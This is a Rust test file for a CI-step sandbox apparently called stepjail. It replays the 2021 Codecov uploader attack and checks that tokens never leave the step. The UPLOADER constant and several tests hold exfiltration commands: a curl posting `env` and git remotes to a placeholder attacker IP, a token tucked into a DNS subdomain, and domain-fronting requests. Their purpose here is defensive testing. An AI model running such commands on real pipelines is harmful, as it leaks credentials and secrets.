//! The 2021 Codecov uploader attack, replayed against stepjail in the test's own namespaces:
//! the payload posts `git remote -v` and `env` to an attacker's bare IP, then uploads coverage
//! with the token. The attacker gets nothing, the coverage service gets the real token, and the
//! step itself only ever held a placeholder.

mod common;

use common::inet::{Internet, audit_events, find, needs_root};
use common::*;

const TOKEN: &str = "c0dec0v-9f1e2d3c4b5a69788796a5b4c3d2e1f0";

const PROFILE: &str = "\
name: coverage
description: upload coverage to the fake codecov; nothing else
extends: default
network:
  allow:
    - codecov.test:443
    - { host: allowed.test, ports: [80] }
secrets:
  CODECOV_TOKEN: { broker: [codecov.test] }
";

/// The uploader as it was, plus the upload it was there to do.
const UPLOADER: &str = r#"
git init -q . 2>/dev/null; git remote add origin https://github.invalid/acme/app.git 2>/dev/null
curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://198.51.100.7/upload/v2 ; echo "exfil=$?"
echo "token-in-step=$CODECOV_TOKEN"
curl -sS -H "Authorization: token $CODECOV_TOKEN" --data-binary 'coverage-report' https://codecov.test/upload
"#;

fn run(net: &Internet, dir: &Dir, profile: &str, script: &str) -> Out {
    run_with_roots(net, dir, profile, script, true)
}

fn run_with_roots(
    net: &Internet,
    dir: &Dir,
    profile: &str,
    script: &str,
    trust_fake_ca: bool,
) -> Out {
    let secrets = dir.write(
        "home/secrets.json",
        &format!("{{\"CODECOV_TOKEN\": \"{TOKEN}\", \"NPM_TOKEN\": \"npm_other\"}}"),
    );
    let extra = ["--secrets-file", secrets.to_str().unwrap(), "--no-mask"];
    // stepjail verifies the real servers against the system roots; in this fake internet the
    // "system" trusts the fake CA (unless the test says otherwise).
    let ca = net.logs.join("ca.pem");
    let env: &[(&str, &std::path::Path)] = if trust_fake_ca {
        &[("SSL_CERT_FILE", &ca)]
    } else {
        &[]
    };
    net.run_env(dir, profile, &extra, script, env)
}

#[test]
fn the_codecov_uploader_gets_nothing_out() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let out = run(&net, &dir, PROFILE, UPLOADER);
    let stdout = out.stdout();
    assert_eq!(out.code(), 0, "{stdout}\n{}", out.stderr());
    // The attacker received zero bytes.
    assert_eq!(net.log("attacker.log"), "", "the attacker received data");
    // curl -s (no -f) exits 0 on the 403 stepjail answers with.
    assert!(
        stdout.starts_with("stepjail: not allowed by profile\nexfil=0\n"),
        "{stdout}"
    );
    // Inside the step the variable is only a placeholder, of the same length.
    let in_step = stdout
        .lines()
        .find_map(|l| l.strip_prefix("token-in-step="))
        .unwrap();
    assert_eq!(in_step.len(), TOKEN.len());
    assert_ne!(in_step, TOKEN);
    assert!(
        !stdout.contains(TOKEN),
        "the real token was in the step: {stdout}"
    );
    // The coverage service received the real token (and the upload) over TLS.
    assert!(
        stdout.contains("hello from codecov.test over https"),
        "{stdout}"
    );
    let requests = net.log("requests.log");
    assert!(
        requests.contains(&format!(
            "https codecov.test POST /upload auth=token {TOKEN} body='coverage-report'"
        )),
        "{requests}"
    );
    // The denied attempt is in the audit log, without any secret in it.
    let ev = audit_events(&dir);
    assert_eq!(
        find(
            &ev,
            "connect",
            &[("dest_ip", "198.51.100.7"), ("decision", "deny")]
        )
        .len(),
        1
    );
    let log = std::fs::read_to_string(dir.root.join("audit.jsonl")).unwrap();
    assert!(!log.contains(TOKEN) && !log.contains(in_step));
}

#[test]
fn a_step_without_declarations_sees_no_token_at_all() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let plain = "name: tests\ndescription: no secrets\nextends: default\nnetwork:\n  allow: [codecov.test]\n";
    let out = run(
        &net,
        &dir,
        plain,
        "env | grep -c -E 'CODECOV|NPM_TOKEN' || true",
    );
    assert_eq!(out.ok(), "0\n", "{}", out.stderr());
}

#[test]
fn dns_exfiltration_and_posts_to_unbound_hosts_are_leaks() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let out = run(
        &net,
        &dir,
        PROFILE,
        "getent hosts \"$CODECOV_TOKEN.allowed.test\" >/dev/null; echo dns=$?; \
         curl -s -o /dev/null -w '%{http_code}\\n' -d \"t=$CODECOV_TOKEN\" http://allowed.test/collect",
    );
    assert_eq!(out.stdout(), "dns=2\n403\n", "{}", out.stderr());
    assert_eq!(
        net.log("requests.log"),
        "",
        "a request carrying the placeholder arrived"
    );
    let upstream = net.log("dns.log");
    assert!(
        !upstream.to_lowercase().contains("c0dec0v") && !upstream.contains(".allowed.test 1"),
        "{upstream}"
    );
    let ev = audit_events(&dir);
    let leaks = find(&ev, "secret_leak", &[("secret_name", "CODECOV_TOKEN")]);
    assert!(
        leaks
            .iter()
            .any(|l| l["dest_name"] == "allowed.test" && l["via"] == "proxy"),
        "{ev:#?}"
    );
    assert!(
        leaks
            .iter()
            .any(|l| l["dest_name"] == "<CODECOV_TOKEN>.allowed.test"),
        "{ev:#?}"
    );
    let log = std::fs::read_to_string(dir.root.join("audit.jsonl")).unwrap();
    assert!(!log.contains(TOKEN));
}

#[test]
fn an_unverifiable_upstream_is_a_denial_not_a_fallback() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    // The supervisor does not trust the fake CA this time: the real server cannot be verified.
    let out = run_with_roots(
        &net,
        &dir,
        PROFILE,
        "curl -sS -H \"Authorization: token $CODECOV_TOKEN\" -d x https://codecov.test/upload; echo rc=$?",
        false,
    );
    assert!(
        out.stdout().ends_with("rc=52\n")
            || out.stdout().ends_with("rc=56\n")
            || out.stdout().ends_with("rc=35\n"),
        "{}",
        out.stdout()
    );
    assert_eq!(
        net.log("requests.log"),
        "",
        "the token left over an unverified connection"
    );
    let ev = audit_events(&dir);
    let denied = find(
        &ev,
        "connect",
        &[("dest_name", "codecov.test"), ("decision", "deny")],
    );
    assert!(
        denied.iter().any(|e| e["reason"]
            .as_str()
            .unwrap()
            .contains("certificate verification failed")),
        "{ev:#?}"
    );
}

#[test]
fn method_and_path_rules_are_enforced_on_segment_boundaries() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let profile = "name: gh\ndescription: read one org's repos\nextends: default\nnetwork:\n  allow:\n    - { host: allowed.test, ports: [80, 443], methods: [GET], paths: [\"/repos/acme\"] }\n";
    let out = run(
        &net,
        &dir,
        profile,
        "for r in 'GET /repos/acme/app' 'GET /repos/acme-evil/x' 'POST /repos/acme/app'; do \
         set -- $r; curl -s -o /dev/null -w \"$1 $2 %{http_code}\\n\" -X $1 https://allowed.test$2; done; \
         curl -s -o /dev/null -w 'plain %{http_code}\\n' -X POST http://allowed.test/repos/acme/app; \
         curl -s --noproxy '*' -o /dev/null -w 'captured %{http_code}\\n' -X POST http://allowed.test/repos/acme/app; \
         curl -s -o /dev/null -w 'dots %{http_code}\\n' --path-as-is https://allowed.test/repos/acme/../other",
    );
    assert_eq!(
        out.stdout(),
        "GET /repos/acme/app 200\nGET /repos/acme-evil/x 403\nPOST /repos/acme/app 403\n\
         plain 403\ncaptured 403\ndots 403\n",
        "{}",
        out.stderr()
    );
    assert_eq!(
        net.log("requests.log").lines().count(),
        1,
        "{}",
        net.log("requests.log")
    );
    let ev = audit_events(&dir);
    assert_eq!(
        find(
            &ev,
            "http",
            &[
                ("method", "POST"),
                ("url", "https://allowed.test/repos/acme/app"),
                ("status", "403")
            ]
        )
        .len(),
        1,
        "{ev:#?}"
    );
    assert_eq!(
        find(
            &ev,
            "http",
            &[
                ("method", "GET"),
                ("url", "https://allowed.test/repos/acme-evil/x"),
                ("decision", "deny")
            ]
        )
        .len(),
        1
    );
}

#[test]
fn an_intercepted_body_carrying_another_secret_is_cut_off() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let profile = format!("{PROFILE}  NPM_TOKEN: {{}}\n");
    let out = run(
        &net,
        &dir,
        &profile,
        "curl -sS -H \"Authorization: token $CODECOV_TOKEN\" --data-binary \"stolen=$NPM_TOKEN\" https://codecov.test/upload; echo rc=$?",
    );
    assert!(
        !out.stdout().contains("hello from codecov.test"),
        "{}",
        out.stdout()
    );
    assert!(
        !net.log("requests.log").contains("npm_other"),
        "{}",
        net.log("requests.log")
    );
    let ev = audit_events(&dir);
    let leak = find(
        &ev,
        "secret_leak",
        &[("secret_name", "NPM_TOKEN"), ("dest_name", "codecov.test")],
    );
    assert_eq!(leak.len(), 1, "{ev:#?}");
}

/// Fronting inside an intercepted connection: TLS to the bound host, but a `Host` header (or an
/// absolute-form target) naming another site. On a shared CDN the request would be routed to
/// that site with the real token swapped in; it is refused before any swap.
#[test]
fn an_intercepted_request_must_name_the_bound_host() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let out = run(
        &net,
        &dir,
        PROFILE,
        "curl -s -o /dev/null -w '%{http_code}\\n' -H 'Host: other.test' -H \"Authorization: token $CODECOV_TOKEN\" https://codecov.test/upload
         curl -s -o /dev/null -w '%{http_code}\\n' --request-target https://other.test/upload -H \"Authorization: token $CODECOV_TOKEN\" https://codecov.test/
         curl -s -o /dev/null -w '%{http_code}\\n' -H 'Host: codecov.test:443' -H \"Authorization: token $CODECOV_TOKEN\" https://codecov.test/ok",
    );
    assert_eq!(out.stdout(), "403\n403\n200\n", "{}", out.stderr());
    let got = net.log("requests.log");
    assert_eq!(got.lines().count(), 1, "{got}");
    assert!(got.contains("/ok"), "{got}");
    let ev = audit_events(&dir);
    let denied = find(&ev, "http", &[("decision", "deny"), ("status", "403")]);
    assert_eq!(denied.len(), 2, "{ev:#?}");
    assert!(
        out.stderr()
            .contains("does not match the intercepted host codecov.test (domain fronting)"),
        "{}",
        out.stderr()
    );
}
